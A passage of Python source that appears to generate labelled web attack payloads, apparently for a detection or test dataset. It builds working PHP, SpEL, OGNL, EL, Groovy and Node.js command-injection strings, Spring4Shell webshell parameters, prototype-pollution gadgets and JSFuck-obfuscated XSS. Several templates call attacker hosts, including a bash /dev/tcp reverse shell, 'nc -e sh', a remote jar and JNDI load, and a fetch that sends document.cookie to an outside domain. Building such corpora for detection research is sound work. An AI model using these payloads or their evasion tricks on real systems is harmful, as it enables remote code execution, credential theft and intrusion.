              "include('http://{h}/s.txt')", "require_once('/tmp/sess_{m}')", "include($_GET['f'])"]


def _php_call(rng: random.Random) -> tuple[str, str]:
    r = rng.random()
    if r < 0.35:
        fn = rng.choice(_PHP_EXEC[:7])
        arg = rng.choice(["'{c}'", '"{c}"', "{inp}", "'{c}'", "\"{c}\""])
        arg = arg.replace("{c}", _fill_cmd(rng, rng.choice(_PHP_SHELL_CMDS))).replace("{inp}", rng.choice(_PHP_INPUT))
        if fn in ("popen",):
            return "exec", f"{fn}({arg},'r')"
        if fn == "proc_open":
            return "exec", f"proc_open({arg},[['pipe','r'],['pipe','w']],$p)"
        if fn == "pcntl_exec":
            return "exec", f"pcntl_exec('/bin/sh',['-c',{arg}])"
        return "exec", f"{fn}({arg})"
    if r < 0.55:
        return "probe", _fill_cmd(rng, rng.choice(_PHP_PROBES))
    if r < 0.68:
        return "write", _fill_cmd(rng, rng.choice(_PHP_WRITE))
    if r < 0.85:
        inp = rng.choice(_PHP_INPUT)
        return "eval", rng.choice([f"eval({inp})", f"@eval({inp})", f"assert({inp})", f"@assert({inp})", f"eval(stripslashes({inp}))",
                                   f"create_function('',{inp})", f"call_user_func('system',{inp})", f"call_user_func_array('assert',[{inp}])",
                                   f"array_map('system',[{inp}])", f"array_filter([{inp}],'assert')", f"usort($a=[{inp},1],'system')",
                                   f"preg_replace('/.*/e',{inp},'')", f"preg_replace('/x/e','system(\"id\")','x')", f"$f={inp};$f()",
                                   f"{inp}({rng.choice(_PHP_INPUT)})", f"register_shutdown_function('system',{inp})", f"mb_ereg_replace('.*',{inp},'x','e')",
                                   f"(new ReflectionFunction('system'))->invoke({inp})", f"iterator_apply(new ArrayIterator([1]),'system',[{inp}])",
                                   f"$a=new ArrayObject([{inp}]);$a->uasort('system')", f"ob_start('system');echo {inp};ob_end_flush()"])
    # encoded chains
    code = _fill_cmd(rng, rng.choice(["system('{c}');", "phpinfo();", "passthru('{c}');", "echo shell_exec('{c}');", "eval($_POST[x]);"]))
    b64 = base64.b64encode(code.encode()).decode()
    return "decode", rng.choice([f"eval(base64_decode('{b64}'))", f"assert(base64_decode(\"{b64}\"))", f"eval(gzinflate(base64_decode('{base64.b64encode(code.encode()[::-1]).decode()}')))",
                                 f"eval(str_rot13('{code.translate(str.maketrans('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ', 'nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM'))}'))",
                                 f"eval(hex2bin('{code.encode().hex()}'))", f"eval(convert_uudecode(base64_decode('{b64}')))", f"eval(urldecode('{_pct_all(code)}'))",
                                 f"$x=base64_decode('{b64}');eval($x)", f"eval(strrev('{code[::-1]}'))"])


def _php_xor_pair(rng: random.Random, word: str) -> tuple[str, str]:
    """Two strings whose bytewise XOR is `word`, the first of non-alphanumeric characters."""
    sym = list("!#%&()*+,-./:;<=>?@[]^_{|}~")
    a, b = [], []
    for ch in word:
        opts = [(x, chr(ord(x) ^ ord(ch))) for x in sym if 0x20 < (ord(x) ^ ord(ch)) < 0x7f and chr(ord(x) ^ ord(ch)) not in "\"\\$"]
        good = [o for o in opts if not o[1].isalnum()] or opts
        x, y = rng.choice(good)
        a.append(x)
        b.append(y)
    return "".join(a), "".join(b)


def _php_obf_fn(rng: random.Random, expr: str) -> tuple[str, str]:
    """Hides the function name of `fn(args)` behind string tricks."""
    m = re.match(r"^([a-z_]+)\((.*)\)$", expr, re.S)
    if not m:
        return "", expr
    fn, args = m.group(1), m.group(2)
    if len(fn) < 4:
        return "", expr
    i = rng.randint(1, len(fn) - 1)
    k = rng.randrange(7)
    if k == 0:
        return "-concat", f"(\"{fn[:i]}\".\"{fn[i:]}\")({args})"
    if k == 1:
        return "-concat", f"$f='{fn[:i]}'.'{fn[i:]}';$f({args})"
    if k == 2:
        return "-hexname", "\"" + "".join("\\x%02x" % ord(c) for c in fn) + f"\"({args})"
    if k == 3:
        return "-chr", ".".join(f"chr({ord(c)})" for c in fn) + f"({args})" if rng.random() < 0.5 else "(" + ".".join(f"chr({ord(c)})" for c in fn) + f")({args})"
    if k == 4:
        return "-rot13", f"(str_rot13('{fn.translate(str.maketrans('abcdefghijklmnopqrstuvwxyz', 'nopqrstuvwxyzabcdefghijklm'))}'))({args})"
    if k == 5:
        return "-strrev", f"(strrev('{fn[::-1]}'))({args})"
    a, b = _php_xor_pair(rng, fn)
    return "-xor", f"(\"{a}\"^\"{b}\")({args})"


def gen_php(rng: random.Random, n: int) -> list[Payload]:
    def make(rng):
        kind, expr = _php_call(rng)
        fam = kind
        if rng.random() < 0.3:
            suf, expr = _php_obf_fn(rng, expr)
            fam += suf
        r = rng.random()
        if r < 0.25:
            s = rng.choice([f"<?php {expr}; ?>", f"<?php {expr};?>", f"<?={expr}?>", f"<? {expr}; ?>", f"<?php\n{expr};\n", f"<?PHP {expr}?>",
                            f"<script language=\"php\">{expr};</script>", f"GIF89a<?php {expr}; ?>", f"<?php /*{_rs(rng)}*/{expr}; ?>"])
            fam = "tag-" + fam
        elif r < 0.4:
            s = rng.choice([f"${{@{expr}}}", f"{{${{{expr}}}}}", f"${{{expr}}}", f"{{${{@{expr}}}}}"])
            fam = "complex-" + fam
        elif r < 0.55:
            q = rng.choice(["'", '"'])
            s = rng.choice([f"{q}.{expr}.{q}", f"{q};{expr};//", f"{q});{expr};//", f"{q}]);{expr};/*", f"1;{expr};", f";{expr};", f"{q}|{expr}|{q}",
                            f"{q},{expr},{q}", f"{q}){expr};#"])
            fam = "breakout-" + fam
        elif r < 0.65 and kind == "exec":
            c = _fill_cmd(rng, rng.choice(_PHP_SHELL_CMDS))
            s = rng.choice([f"echo `{c}`;", f"<?=`{c}`?>", f"<?php echo `{c}`; ?>", f"print(`{c}`);", f"${{@print(`{c}`)}}"])
            fam = "backtick"
        else:
            s = expr + rng.choice([";", "", ";", "; //", ";#", ";die();", ";exit;"])
        if rng.random() < 0.08:
            s = _pct_some(rng, s, " <>?'\";()$[]")
            fam += "-urlenc"
        return Payload("cmdi", s, "gen", f"cmdi:php-{fam}", _hint(rng, s, ["any"] * 6 + ["cookie", "header", "file"]))
    return _collect(rng, n, make)


# ------------------------------------------------------------------------ 3. Java / Spring (ssti)

_JAVA_CMDS = ["id", "whoami", "calc", "calc.exe", "touch /tmp/pwned", "cat /etc/passwd", "nslookup {oob}", "curl http://{h}/", "ping -c 3 {h}",
              "bash -c {{echo,{b64}}}|{{base64,-d}}|{{bash,-i}}", "wget {h}/x -O /tmp/x", "cmd /c dir", "sleep {n}", "uname -a", "ls /"]


def _jcmd(rng: random.Random) -> str:
    return _fill_cmd(rng, rng.choice(_JAVA_CMDS), rng.choice(["bash -i >& /dev/tcp/" + _public_ip(rng) + "/4444 0>&1", "id"]))


def _spel(rng: random.Random, c: str) -> tuple[str, str]:
    q = rng.choice(["'", '"'])
    body = rng.choice([
        f"T(java.lang.Runtime).getRuntime().exec({q}{c}{q})", f"T (java.lang.Runtime).getRuntime().exec({q}{c}{q})",
        f"T(java.lang.Runtime).getRuntime().exec(new String[]{{{q}sh{q},{q}-c{q},{q}{c}{q}}})",
        f"new java.lang.ProcessBuilder({{{q}sh{q},{q}-c{q},{q}{c}{q}}}).start()", f"new java.lang.ProcessBuilder({q}{c}{q}).start()",
        f"T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec({q}{c}{q}).getInputStream())",
        f"new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec({q}{c}{q}).getInputStream()).useDelimiter({q}\\\\A{q}).next()",
        f"T(java.lang.System).getenv()", f"T(java.lang.System).getProperty({q}user.dir{q})", f"T(java.lang.Thread).sleep({rng.randint(2, 9)}000)",
        f"T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec({q}{c}{q}).getInputStream(),T(java.nio.charset.Charset).defaultCharset())",
        f"T(java.nio.file.Files).readAllLines(T(java.nio.file.Paths).get({q}/etc/passwd{q}))", f"new java.io.File({q}/etc/passwd{q}).exists()",
        f"T(java.lang.Class).forName({q}java.lang.Runtime{q}).getMethod({q}exec{q},{q}{q}.class).invoke(T(java.lang.Class).forName({q}java.lang.Runtime{q}).getMethod({q}getRuntime{q}).invoke(null),{q}{c}{q})",
        f"T(javax.script.ScriptEngineManager).newInstance().getEngineByName({q}js{q}).eval({q}java.lang.Runtime.getRuntime().exec(\\{q}{c}\\{q}){q})",
        f"new javax.script.ScriptEngineManager().getEngineByName({q}nashorn{q}).eval({q}new java.lang.ProcessBuilder().command(\\{q}{c}\\{q}).start(){q})",
        f"T(java.lang.Runtime).getRuntime().availableProcessors()", f"{rng.randint(7, 999)}*{rng.randint(7, 999)}",
        f"T(org.springframework.cglib.core.ReflectUtils).defineClass({q}X{q},T(org.springframework.util.Base64Utils).decodeFromString({q}yv66vg{_rs(rng, 12)}{q}),new javax.management.loading.MLet(new java.net.URL[0],T(java.lang.Thread).currentThread().getContextClassLoader()))",
        f"@environment.getProperty({q}spring.datasource.password{q})", f"#this.getClass().forName({q}java.lang.Runtime{q})", "#root.class.classLoader",
        f"T(java.net.InetAddress).getByName({q}{_attacker_host(rng)}{q})", f"new java.net.URL({q}http://{_attacker_host(rng)}/{q}).openStream()",
    ])
    wrap = rng.choice(["${%s}", "#{%s}", "*{%s}", "%s", "${{%s}}", "__${%s}__::.x", "__${%s}__::", "[[${%s}]]", "#{%s}", "@{%s}"])
    fam = "spel" if not wrap.startswith("__") else "spel-thymeleaf"
    return fam, wrap % body


def _ognl(rng: random.Random, c: str) -> tuple[str, str]:
    q = rng.choice(["'", '"'])
    steps = ["(#_memberAccess['allowStaticMethodAccess']=true)", "(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)",
             "(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)", "(#context['xwork.MethodAccessor.denyMethodExecution']=false)",
             "(#ct=#request['struts.valueStack'].context).(#cr=#ct['com.opensymphony.xwork2.ActionContext.container'])",
             "(#ou=#cr.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ou.getExcludedPackageNames().clear()).(#ou.getExcludedClasses().clear())",
             f"(#cmd={q}{c}{q})", "(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win')))",
             "(#cmds=(#iswin?{'cmd','/c',#cmd}:{'/bin/bash','-c',#cmd}))", "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())",
             "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))", "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros))",
             "(#ros.flush())", f"(@java.lang.Runtime@getRuntime().exec({q}{c}{q}))", "(#context.setMemberAccess(#dm))",
             "(#w=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse').getWriter())", f"(#w.print({q}{_rs(rng, 8)}{q}))", "(#w.close())"]
    k = rng.sample(range(len(steps)), rng.randint(2, 6))
    chain = ".".join(steps[i] for i in sorted(k))
    r = rng.random()
    if r < 0.5:
        s = rng.choice(["%{" + chain + "}", "${" + chain + "}", "%{(" + chain + ")}", chain])
        fam = "ognl-chain"
    elif r < 0.8:
        s = rng.choice([f"%{{@java.lang.Runtime@getRuntime().exec({q}{c}{q})}}", f"${{@java.lang.Runtime@getRuntime().exec({q}{c}{q})}}",
                        f"@java.lang.Runtime@getRuntime().exec({q}{c}{q})", f"%{{#a=@java.lang.Runtime@getRuntime().exec({q}{c}{q}).getInputStream()}}",
                        f"%{{{rng.randint(7, 999)}*{rng.randint(7, 999)}}}", f"%{{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-{_rs(rng, 3)}',{rng.randint(7, 99)}*{rng.randint(7, 99)})}}",
                        f"%{{@java.lang.System@getProperty({q}user.name{q})}}", f"%{{(new java.lang.ProcessBuilder(new java.lang.String[]{{{q}{c}{q}}})).start()}}",
                        f"@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec({q}{c}{q}).getInputStream())",
                        f"redirect:${{#a=new java.lang.ProcessBuilder({q}{c}{q}).start()}}", f"action:%{{@java.lang.Runtime@getRuntime().exec({q}{c}{q})}}",
                        f"(#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec({q}{c}{q}))"])
        fam = "ognl-static"
    else:
        s = "%{(#nike='multipart/form-data')." + chain + "}" if rng.random() < 0.5 else "%{(#_='multipart/form-data')." + chain + "}"
        fam = "ognl-contenttype"
    return fam, s


def _el(rng: random.Random, c: str) -> tuple[str, str]:
    q = rng.choice(["'", '"'])
    body = rng.choice(["applicationScope", "sessionScope", "requestScope", "pageContext", "pageContext.request.serverName", "header", "header['host']",
                       "cookie", "initParam", "param.x", "pageContext.servletContext.getRealPath('/')", "facesContext.externalContext.sessionMap",
                       "pageContext.request.getSession().setAttribute('a',1)", f"{q}{q}.getClass().forName({q}java.lang.Runtime{q}).getMethod({q}getRuntime{q}).invoke(null).exec({q}{c}{q})",
                       f"{q}{q}.getClass().forName({q}java.lang.Runtime{q}).getMethods()[6].invoke({q}{q}.getClass().forName({q}java.lang.Runtime{q})).exec({q}{c}{q})",
                       f"{q}{q}.class.forName({q}javax.script.ScriptEngineManager{q}).newInstance().getEngineByName({q}js{q}).eval({q}java.lang.Runtime.getRuntime().exec(\\{q}{c}\\{q}){q})",
                       f"Runtime.getRuntime().exec({q}{c}{q})", f"request.getClass().getClassLoader()", "session.getServletContext()",
                       f"{rng.randint(7, 999)}*{rng.randint(7, 999)}", "pageContext.getClass().getClassLoader().getParent()",
                       f"facesContext.getExternalContext().redirect({q}http://{_evil_domain(rng)}{q})", "empty applicationScope ? 1 : 0",
                       "sessionScope.user.password", "requestScope['javax.servlet.forward.request_uri']"])
    return "el", rng.choice(["${%s}", "#{%s}", "${%s}", "${{%s}}"]) % body


def _spring4shell(rng: random.Random) -> tuple[str, str]:
    base = rng.choice(["class.module.classLoader.resources.context.parent.pipeline.first.", "class.classLoader.resources.context.parent.pipeline.first.",
                       "class.module.classLoader.resources.context.parent.pipeline.first."])
    r = rng.random()
    if r < 0.7:
        key, val = rng.choice([
            ("pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }"),
            ("pattern", "%{prefix}i " + rng.choice(["Runtime.getRuntime().exec(request.getParameter(\"c\"))", "<%out.println(1);%>"]) + " %{suffix}i"),
            ("suffix", rng.choice([".jsp", ".jspx", ".JSP"])), ("directory", rng.choice(["webapps/ROOT", "webapps/ROOT/", "webapps/app", "../webapps/ROOT"])),
            ("prefix", rng.choice(["tomcatwar", "shell", _rs(rng, 6), "cmd"])), ("fileDateFormat", rng.choice(["", "_", "1"])),
        ])
        kv = f"{base}{key}={val}"
        s = rng.choice([kv, f"{base}{key}", kv.replace(".", "%2E") if rng.random() < 0.2 else kv, f"{kv}&{base}suffix=.jsp"])
        return "spring4shell", s
    return "spring4shell", rng.choice(["class.module.classLoader.DefaultAssertionStatus=true", "class.module.classLoader.URLs[0]=0",
                                       "class.classLoader.URLs[0]=jar:http://" + _evil_domain(rng) + "/x.jar!/", "class.module.classLoader=1",
                                       "class['module']['classLoader']['resources']['context']['parent']['pipeline']['first']['pattern']=x",
                                       "class.protectionDomain.codeSource.location", "Class.Module.ClassLoader.DefaultAssertionStatus=nonsense",
                                       "class.module.classLoader.resources.dirContext.docBase=/", "class.classLoader.jarPath=x"])


def _groovy_mvel(rng: random.Random, c: str) -> tuple[str, str]:
    q = rng.choice(["'", '"'])
    k = rng.random()
    if k < 0.4:
        return "groovy", rng.choice([f"{q}{c}{q}.execute().text", f"{q}{c}{q}.execute()", f"[{q}sh{q},{q}-c{q},{q}{c}{q}].execute().text",
                                     f"Class.forName({q}java.lang.Runtime{q}).getRuntime().exec({q}{c}{q})", f"this.class.classLoader.parseClass({q}{q}).newInstance()",
                                     f"@groovy.transform.ASTTest(value={{assert java.lang.Runtime.getRuntime().exec({q}{c}{q})}})def x", f"new File({q}/etc/passwd{q}).text",
                                     f"def p={q}{c}{q}.execute();p.waitFor();println p.text", f"${{{q}{c}{q}.execute().text}}", f"evaluate(new URL({q}http://{_evil_domain(rng)}/x.groovy{q}).text)",
                                     f"@Grab(group={q}x{q},module={q}y{q},version={q}1{q})import z;", f"Eval.me({q}{c}{q}.execute().text)", f"new GroovyShell().evaluate({q}{c}{q}.execute().text)"])
    if k < 0.7:
        return "mvel", rng.choice([f"Runtime.getRuntime().exec({q}{c}{q})", f"@{{java.lang.Runtime.getRuntime().exec({q}{c}{q})}}",
                                   f"@{{Runtime.getRuntime().exec({q}{c}{q})}}", f"new java.lang.ProcessBuilder({q}{c}{q}).start()",
                                   f"import java.lang.Runtime; r = Runtime.getRuntime(); r.exec({q}{c}{q});", f"@{{{rng.randint(7, 99)}*{rng.randint(7, 99)}}}",
                                   f"java.lang.System.exit(0)", f"def f() {{ java.lang.Runtime.getRuntime().exec({q}{c}{q}) }} f();"])
    return "reflection", rng.choice([
        f"java.lang.Class.forName({q}java.lang.Runtime{q}).getMethod({q}exec{q},java.lang.String.class).invoke(java.lang.Class.forName({q}java.lang.Runtime{q}).getMethod({q}getRuntime{q}).invoke(null),{q}{c}{q})",
        f"{q}{q}.getClass().forName({q}java.lang.ProcessBuilder{q}).getDeclaredConstructors()[0].newInstance([{q}{c}{q}]).start()",
        f"java.lang.Thread.currentThread().getContextClassLoader().loadClass({q}java.lang.Runtime{q})",
        f"x.getClass().getDeclaredMethod({q}exec{q}).setAccessible(true)",
        f"new javax.script.ScriptEngineManager().getEngineByName({q}JavaScript{q}).eval({q}java.lang.Runtime.getRuntime().exec(\\{q}{c}\\{q}){q})",
        f"new javax.script.ScriptEngineManager().getEngineByExtension({q}js{q}).eval({q}var p=new java.lang.ProcessBuilder();p.command(\\{q}{c}\\{q});p.start(){q})",
        f"java.lang.invoke.MethodHandles.lookup().findVirtual(java.lang.Runtime.class,{q}exec{q},null)",
        f"new java.net.URLClassLoader(new java.net.URL[]{{new java.net.URL({q}http://{_evil_domain(rng)}/x.jar{q})}}).loadClass({q}Exploit{q}).newInstance()",
        f"new javax.naming.InitialContext().lookup({q}rmi://{_attacker_host(rng)}/a{q})",
    ])


def gen_java(rng: random.Random, n: int) -> list[Payload]:
    def make(rng):
        c = _jcmd(rng)
        r = rng.random()
        hint = "any"
        if r < 0.3:
            fam, s = _spel(rng, c)
        elif r < 0.5:
            fam, s = _ognl(rng, c)
            if fam == "ognl-contenttype":
                hint = "header"
        elif r < 0.65:
            fam, s = _el(rng, c)
        elif r < 0.77:
            fam, s = _spring4shell(rng)
        else:
            fam, s = _groovy_mvel(rng, c)
        if rng.random() < 0.1:
            s = _pct_some(rng, s, " #{}'\"()[]%=&")
            fam += "-urlenc"
        return Payload("ssti", s, "gen", f"ssti:{fam}", hint)
    return _collect(rng, n, make)


# --------------------------------------------------------------------------------- 4. Node / JS

_PP_KEYS = ["isAdmin", "admin", "role", "polluted", "toString", "json spaces", "outputFunctionName", "escapeFunction", "client", "compileDebug",
            "debug", "shell", "NODE_OPTIONS", "argv0", "env", "execArgv", "sourceURL", "allowedTags", "block", "line", "self", "settings",
            "view options", "layout", "status", "exposedHeaders", "headers", "type", "body", "content-type", "preventDefault", "isVerified",
            "auth", "permissions", "limit", "cmd", "main", "path", "hostname", "innerHTML", "srcdoc", "onload", "template", "__v", "x"]
_PP_GADGET_VALS = {
    "outputFunctionName": ["_tmp1;global.process.mainModule.require('child_process').execSync('{c}');var __tmp2",
                           "x;process.mainModule.require('child_process').exec('{c}');x"],
    "escapeFunction": ["1;return global.process.mainModule.constructor._load('child_process').execSync('{c}')", "JSON.stringify; process.mainModule.require('child_process').exec('{c}')"],
    "client": ["1"], "compileDebug": ["1"], "debug": ["true"],
    "shell": ["/proc/self/exe", "node", "/bin/sh", "sh"], "NODE_OPTIONS": ["--require /proc/self/environ", "--inspect={h}:9229", "--require=/proc/self/cmdline"],
    "argv0": ["console.log(require('child_process').execSync('{c}').toString())//"], "env": ["{{\"EVIL\":\"require('child_process').execSync('{c}')//\"}}"],
    "execArgv": ["--eval=require('child_process').execSync('{c}')"], "sourceURL": ["\\u000areturn process.mainModule.require('child_process').execSync('{c}')//"],
    "allowedTags": ["script", "img"], "block": ["{{\"type\":\"Text\",\"line\":\"process.mainModule.require('child_process').execSync('{c}')\"}}"],
    "line": ["process.mainModule.require('child_process').execSync('{c}')"], "innerHTML": ["<img src=x onerror=alert(1)>"], "srcdoc": ["<script>alert(1)</script>"],
    "json spaces": ["10", " "], "status": ["510", "555"], "exposedHeaders": ["X-Pwned"], "toString": ["1", "x"], "view options": ["{{\"client\":true,\"escapeFunction\":\"1;return process.env\"}}"],
}
_PROTO_FORMS = ["__proto__", "__proto__", "__proto__", "constructor.prototype", "constructor[prototype]", "__pro__proto__to__",
                "%5F%5Fproto%5F%5F", "__proto%5f%5f", "['__proto__']", "%255F%255Fproto%255F%255F"]


def _pp_val(rng: random.Random, key: str) -> str:
    if key in _PP_GADGET_VALS:
        return _fill_cmd(rng, rng.choice(_PP_GADGET_VALS[key]))
    return rng.choice(["true", "1", "yes", "admin", "polluted", "x", str(rng.randint(0, 9999)), "null", "[]", "{}"])


def gen_prototype_pollution(rng: random.Random, n: int) -> list[Payload]:
    def make(rng):
        key = rng.choice(_PP_KEYS)
        val = _pp_val(rng, key)
        proto = rng.choice(_PROTO_FORMS)
        r = rng.random()
        if r < 0.45:
            # query / form syntaxes
            if proto.startswith("constructor"):
                path = rng.choice(["constructor[prototype][{k}]", "constructor.prototype.{k}", "a[constructor][prototype][{k}]", "[constructor][prototype][{k}]"])
            elif proto == "['__proto__']":
                path = "['__proto__']['{k}']"
            else:
                path = rng.choice(["P[{k}]", "P.{k}", "P[{k}][]", "[P][{k}]", "a[P][{k}]", "P.{k}.x", "a.P.{k}", "P[{k}][0]"]).replace("P", proto)
            path = path.replace("{k}", key)
            s = path + "=" + (_pct_some(rng, val, " ;'\"(){}&=") if rng.random() < 0.5 else val)
            if rng.random() < 0.25:
                s += "&" + rng.choice(["a=1", "page=2", "q=" + _rs(rng), "x[y]=z"])
            fam = "pp-query" if "constructor" not in s else "pp-query-constructor"
            hint = "any"
        elif r < 0.85:
            jv = val if val in ("true", "null", "[]", "{}") or val.isdigit() or val.startswith("{") else '"' + val.replace("\\", "\\\\").replace('"', '\\"') + '"'
            inner = '{"%s": %s}' % (key, jv)
            if rng.random() < 0.3:
                k2 = rng.choice(_PP_KEYS)
                inner = '{"%s": %s, "%s": %s}' % (key, jv, k2, '"' + _pp_val(rng, k2).replace('"', '\\"') + '"' if k2 in _PP_GADGET_VALS else "true")
            if rng.random() < 0.3:
                obj = '{"constructor": {"prototype": %s}}' % inner
                fam = "pp-json-constructor"
            else:
                obj = '{"__proto__": %s}' % inner
                fam = "pp-json"
            wrap = rng.choice(["{}", '{"user": {}}', '{"name": "%s", "data": {}}' % _rs(rng, 5), '[{}]', '{"a": {"b": {}}}', '{"settings": {}, "id": %d}' % rng.randint(1, 999), "{}"])
            s = wrap.replace("{}", obj, 1) if wrap != "{}" else obj
            if rng.random() < 0.15:
                s = s.replace("__proto__", "\\u005f\\u005fproto\\u005f\\u005f")
                fam += "-unicode"
            hint = "any"
        else:
            s = rng.choice([f"Object.prototype.{key}={val}" if val.isalnum() else f"Object.prototype['{key}']='{val}'",
                            f"merge({{}}, JSON.parse('{{\"__proto__\":{{\"{key}\":1}}}}'))", f"_.set({{}}, '__proto__.{key}', 1)",
                            f"_.merge({{}}, {{\"__proto__\":{{\"{key}\":true}}}})", f"$.extend(true, {{}}, JSON.parse('{{\"__proto__\":{{\"{key}\":1}}}}'))",
                            f"?__proto__[{key}]={val}#", f"#__proto__[{key}]={val}", f"?constructor[prototype][{key}]={val}"])
            fam, hint = "pp-code", "any"
        return Payload("deserialization", s, "gen", f"deserialization:{fam}", hint)
    return _collect(rng, n, make)


def gen_node_rce(rng: random.Random, n: int) -> list[Payload]:
    def make(rng):
        c = _fill_cmd(rng, rng.choice(["id", "whoami", "ls", "cat /etc/passwd", "curl {u}", "nc {h} {p} -e sh", "touch /tmp/{r}", "uname -a", "sleep {n}"]))
        q = rng.choice(["'", '"', "`"])
        req = rng.choice(["require", "process.mainModule.require", "global.process.mainModule.require", "module.constructor._load",
                          "process.mainModule.constructor._load", "this.constructor.constructor('return process')().mainModule.require",
                          "global.process.binding", "require.main.require", "import"])
        mod = rng.choice(["child_process", "child_process", "fs", "net", "vm"])
        if mod == "child_process" and req != "global.process.binding":
            call = rng.choice([f".exec({q}{c}{q})", f".execSync({q}{c}{q}).toString()", f".spawn({q}sh{q},[{q}-c{q},{q}{c}{q}])", f".spawnSync({q}{c.split(' ')[0]}{q})",
                               f".execFile({q}/bin/sh{q},[{q}-c{q},{q}{c}{q}])", f".fork({q}/tmp/{_rs(rng)}.js{q})"])
        elif mod == "fs":
            call = rng.choice([f".readFileSync({q}/etc/passwd{q}).toString()", f".writeFileSync({q}/tmp/{_rs(rng)}{q},{q}x{q})", f".readdirSync({q}/{q})",
                               f".unlinkSync({q}/app/index.js{q})"])
        elif mod == "net":
            call = f".connect({rng.randint(1025, 65535)},{q}{_attacker_host(rng)}{q})"
        else:
            call = f".runInNewContext({q}this.constructor.constructor('return process')().exit(){q})"
        if req == "import":
            core = f"import({q}{mod}{q}).then(m=>m{call})"
        elif req == "global.process.binding":
            core = f"process.binding({q}spawn_sync{q}).spawn({{file:{q}/bin/sh{q},args:[{q}sh{q},{q}-c{q},{q}{c}{q}],stdio:[{{type:{q}pipe{q},readable:1}}]}})"
        else:
            core = f"{req}({q}{mod}{q}){call}"
        r = rng.random()
        if r < 0.2:
            core, fam = rng.choice([f"Function({q}return {core.replace(q, chr(39) if q != chr(39) else chr(34))}{q})()",
                                    f"new Function({q}return process{q})().mainModule.require({q}child_process{q}).execSync({q}{c}{q})",
                                    f"[].constructor.constructor({q}return process{q})().mainModule.require({q}child_process{q}).execSync({q}{c}{q})",
                                    f"eval({q}{core.replace(q, chr(39) if q != chr(39) else chr(34))}{q})", f"setTimeout(function(){{{core}}},0)",
                                    f"process.exit()", f"process.kill(process.pid)", f"res.end(require('fs').readdirSync('.').toString())",
                                    f"Reflect.construct(Function,[{q}return process{q}])().env"]), "node-function"
        elif r < 0.45:
            core, fam = rng.choice([f"${{{core}}}", f"`${{{core}}}`", f"${{process.env}}", f"${{process.mainModule.require({q}child_process{q}).execSync({q}{c}{q})}}",
                                    f"{q}+{core}+{q}", f"{q};{core};//", f"{q}}});{core};//"]), "node-template"
        else:
            fam = "node-require"
        if rng.random() < 0.1:
            core = _pct_some(rng, core, " '\"(){}`;")
            fam += "-urlenc"
        return Payload("cmdi", core, "gen", f"cmdi:{fam}", "any")
    return _collect(rng, n, make)


# JSFuck-style encoder (written from the idea: everything from []!+() plus strings of coerced values)
_JSF_SRC = {"false": "(![]+[])", "true": "(!![]+[])", "undefined": "([][[]]+[])", "NaN": "(+[![]]+[])", "[object Object]": "([]+{})"}


def _jsf_num(n: int) -> str:
    if n == 0:
        return "+[]"
    return "+".join(["!+[]"] * n) if n > 1 else "+!+[]"


def _jsf_idx(n: int) -> str:
    if n < 10:
        return _jsf_num(n)
    return "+".join("[" + _jsf_num(int(d)) + "]" for d in str(n))


def _jsf_char(ch: str, fn_src: str | None) -> str | None:
    if ch.isdigit():
        return "(" + _jsf_num(int(ch)) + "+[])"
    for word, src in _JSF_SRC.items():
        i = word.find(ch)
        if i >= 0:
            return f"{src}[{_jsf_idx(i)}]"
    if fn_src:
        i = "function filter() { [native code] }".find(ch)
        if i >= 0:
            return f"({fn_src}+[])[{_jsf_idx(i)}]"
    return None


def _jsf_str(s: str, fn_src: str | None = None) -> str | None:
    parts = [_jsf_char(ch, fn_src) for ch in s]
    return None if any(p is None for p in parts) else "+".join(parts)


def _jsfuck(code: str) -> str | None:
    filt = _jsf_str("filter")
    fn_src = f"[][{filt}]"
    cons = _jsf_str("constructor")
    body = _jsf_str(code, fn_src)
    if body is None:
        return None
    return f"{fn_src}[{cons}]({body})()"


def gen_js_obfuscation(rng: random.Random, n: int) -> list[Payload]:
    calls = ["alert(1)", "alert(document.domain)", "prompt(1)", "confirm(1)", "alert(document.cookie)", "print()", "alert(origin)", "eval(name)",
             "fetch('//" + "{d}" + "?c='+document.cookie)", "location='//{d}/'+document.cookie", "import('//{d}/x.js')", "alert(/xss/)"]
    jsf_ok = ["alert(1)", "alert(0)", "alert(12)", "alert(1337)", "confirm(1)", "alert(true)", "alert(false)", "alert(NaN)"]

    def make(rng):
        call = rng.choice(calls).replace("{d}", _evil_domain(rng))
        fn, _, arg = call.partition("(")
        arg = arg[:-1]
        k = rng.randrange(12)
        if k == 0:
            code = rng.choice(jsf_ok)
            s = _jsfuck(code)
            fam = "jsfuck"
            if rng.random() < 0.5:
                s = rng.choice(["<script>{}</script>", "<img src=x onerror={}>", "javascript:{}", "\"-{}-\"", "';{}//", "<svg onload={}>"]).format(s)
        elif k == 1:
            frag = _jsf_str(rng.choice(["alert", "constructor", "filter", "true", "undefined", "false", "fill", "flat", "find"]) or "alert")
            s = rng.choice(["[][{}]", "[]+{}", "({})", "(+[]+{})"]).format(frag) + rng.choice(["", "()", "[+[]]", "+[]"])
            fam = "jsfuck-fragment"
        elif k == 2:
            q = rng.choice(["'", '"'])
            s = rng.choice([f"[][{q}filter{q}][{q}constructor{q}]({q}{call}{q})()", f"[][{q}at{q}][{q}constructor{q}]({q}{call}{q})()",
                            f"[].map.constructor({q}{call}{q})()", f"{q}{q}[{q}sub{q}][{q}constructor{q}]({q}{call}{q})()",
